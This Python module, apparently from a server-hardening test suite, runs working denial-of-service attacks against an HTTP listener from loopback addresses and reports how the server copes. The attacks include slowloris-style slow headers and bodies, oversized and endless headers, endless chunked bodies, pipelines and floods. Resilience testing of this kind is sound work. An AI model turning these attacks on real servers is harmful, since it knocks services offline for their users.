"""Attacks on a listener, in a process of their own so that who measures is not slowed by who attacks.

`python -m hostile.attacks NAME HOST PORT COUNT FILE` says "ready" when the attack is up, goes on until its input ends,
and then prints what it saw as JSON. FILE has raw requests, one JSON text a line, for the attacks that send some.
Attackers come from 20 loopback addresses, honest callers from 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import sys
import time
from pathlib import Path

ADDRESSES = 20
HEAD = b"POST /dsp/2025-1/negotiations/request HTTP/1.1\r\nHost: x\r\n"


class Attack:
    """Connections that were opened, when they were cut, and what was answered."""

    def __init__(self, host: str, port: int, count: int, requests: list[bytes]) -> None:
        self.host, self.port, self.count, self.requests = host, port, count, requests
        self.opened = 0
        self.up = asyncio.Event()
        self.cut_after_s: list[float] = []
        self.answers: dict[str, int] = {}
        self.sent_bytes = 0

    async def open(self, number: int):
        """A connection from one of the attackers' addresses."""
        local = (f"127.0.0.{2 + number % ADDRESSES}", 0)
        try:
            made = await asyncio.open_connection(self.host, self.port, local_addr=local)
        except OSError:  # a machine that has one loopback address
            made = await asyncio.open_connection(self.host, self.port)
        self.opened += 1
        if self.opened >= self.count:
            self.up.set()
        return made

    async def hold(self, number: int, first: bytes, drip: bytes, every_s: float) -> None:
        """Open a connection, send something, then a little now and then, and note when it is cut."""
        reader, writer = await self.open(number)
        began = time.monotonic()
        with contextlib.suppress(OSError):
            writer.write(first)
            reading = asyncio.ensure_future(reader.read(4096))
            while not reading.done():
                await asyncio.wait([reading], timeout=every_s)
                if not reading.done() and drip:
                    writer.write(drip)
            if answer := reading.result():
                self.note(answer)
                await reader.read()
        self.cut_after_s.append(time.monotonic() - began)
        writer.transport.abort()

    def note(self, answer: bytes) -> None:
        status = answer[9:12].decode("latin-1")
        self.answers[status] = self.answers.get(status, 0) + 1

    async def all(self, first: bytes = b"", drip: bytes = b"", every_s: float = 0.5) -> None:
        """Hold as many connections as are asked for, until they are cut."""
        waiting = []
        for number in range(self.count):
            waiting.append(asyncio.create_task(self.hold(number, first, drip, every_s)))
            if number % 200 == 0:
                await asyncio.sleep(0)
        await asyncio.gather(*waiting)

    async def again(self, request: bytes, *, pause_s: float = 0.05) -> None:
        """Send a request on a new connection each time, for ever."""
        number = 0
        while True:
            number += 1
            with contextlib.suppress(OSError):
                reader, writer = await self.open(number)
                writer.write(request)
                self.sent_bytes += len(request)
                async with asyncio.timeout(15):
                    self.note(await reader.read(64))
                writer.transport.abort()
            await asyncio.sleep(pause_s)

    async def without_end(self, head: bytes, piece: bytes) -> None:
        """Send something that does not end, on a new connection when one is cut."""
        for number in range(1_000_000):
            with contextlib.suppress(OSError):
                reader, writer = await self.open(number)
                writer.write(head)
                while not reader.at_eof() and not writer.transport.is_closing():
                    writer.write(piece)
                    self.sent_bytes += len(piece)
                    await asyncio.wait_for(writer.drain(), 2)
                    await asyncio.sleep(0.002)
                writer.transport.abort()
            await asyncio.sleep(0.05)

    async def flood(self, each_s: float) -> None:
        """Send the requests one after the other, at most one in `each_s`, on one connection."""
        reader, writer = await self.open(0)
        for request in self.requests:
            due = asyncio.sleep(each_s)
            writer.write(request)
            head = await reader.readuntil(b"\r\n\r\n")
            length = int(head.lower().partition(b"content-length:")[2].split(b"\r\n")[0] or 0)
            await reader.readexactly(length)
            self.note(head)
            await due


BODY_HEAD = HEAD + b"Content-Length: 60000\r\n\r\n"
CHUNKED = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
ATTACKS = {
    "idle sockets": lambda it: it.all(),
    "slow heads": lambda it: it.all(HEAD + b"X-A: ", b"a"),
    "slow bodies": lambda it: it.all(BODY_HEAD, b" "),
    "a head of 1 MB": lambda it: it.again(HEAD + b"X-A: " + b"a" * 1_000_000 + b"\r\n\r\n"),
    "a head without end": lambda it: it.without_end(HEAD, b"a: b\r\n" * 500),
    "trailers without end": lambda it: it.without_end(CHUNKED + b"0\r\n", b"a: b\r\n" * 500),
    "a body without end": lambda it: it.without_end(CHUNKED, b"ffff\r\n" + b" " * 0xFFFF + b"\r\n"),
    "a deep pipeline": lambda it: it.again(b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n" * 3000),
    "requests": lambda it: it.flood(0.01),
}


async def main(name: str, host: str, port: str, count: str, file: str) -> None:
    wanted, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(wanted, most), most))
    requests = []
    if file:
        requests = [json.loads(line).encode("latin-1") for line in Path(file).read_text().splitlines()]
    attack = Attack(host, int(port), int(count), requests)
    running = asyncio.create_task(ATTACKS[name](attack))
    await asyncio.wait([running, asyncio.create_task(attack.up.wait())], return_when=asyncio.FIRST_COMPLETED)
    sys.stdout.write("ready\n")
    sys.stdout.flush()
    ended = asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    await asyncio.wait([running, ended], return_when=asyncio.FIRST_COMPLETED)
    if running.done():
        running.result()
    seen = {
        "opened": attack.opened,
        "cut": len(attack.cut_after_s),
        "answers": attack.answers,
        "sent": attack.sent_bytes,
    }
    slowest_s = round(max(attack.cut_after_s, default=0.0), 2)
    sys.stdout.write(json.dumps({**seen, "slowest_s": slowest_s}) + "\n")
    sys.stdout.flush()
    running.cancel()


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:6]))
